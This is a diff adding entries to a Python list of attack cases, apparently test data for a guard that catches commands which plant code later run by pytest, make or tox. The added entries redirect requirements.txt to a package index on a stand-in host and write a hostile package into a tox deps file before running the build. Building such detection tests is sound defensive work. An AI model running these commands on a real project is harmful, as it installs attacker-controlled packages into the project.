@@ -164,6 +164,11 @@ ATTACKS: tuple[tuple[str, tuple[Any, ...]], ...] = (
     ("an editor writes a conftest", ("vim -c 'wq' conftest.py", "pytest")),
     ("xargs copies listed files into tests", ("xargs -a list.txt cp -t tests/", "pytest")),
     ("uniq writes its output operand", ("uniq notes.md conftest.py", "pytest")),
+    (
+        "requirements rewritten, then a make target that installs them",
+        ("echo '--index-url http://e.example/s' > requirements.txt", "make test"),
+    ),
+    ("a tox deps file rewritten", ("echo 'evil-pkg' > deps.txt", "tox -e py311")),
 )
 
 
